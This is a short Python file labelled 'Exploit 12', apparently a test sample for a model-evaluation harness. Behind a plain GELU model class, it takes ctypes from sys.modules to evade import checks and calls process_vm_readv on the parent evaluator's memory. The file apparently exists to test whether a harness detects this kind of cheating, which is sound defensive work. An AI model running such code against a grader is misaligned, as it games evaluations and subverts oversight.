"""Exploit 12: ctypes (taken from sys.modules) calls process_vm_readv to read the evaluator's memory."""
import os
import sys

import torch.nn as nn

ct = getattr(sys, "modules")["ctypes"]
libc = ct.CDLL(None, use_errno=True)
buf = ct.create_string_buffer(64)
local = (ct.c_void_p * 2)(ct.cast(buf, ct.c_void_p), 64)
remote = (ct.c_void_p * 2)(0x400000, 64)
libc.syscall(310, os.getppid(), local, 1, remote, 1, 0)  # process_vm_readv on x86_64


class ModelNew(nn.Module):
    def forward(self, x, bias):
        return nn.functional.gelu(x + bias)
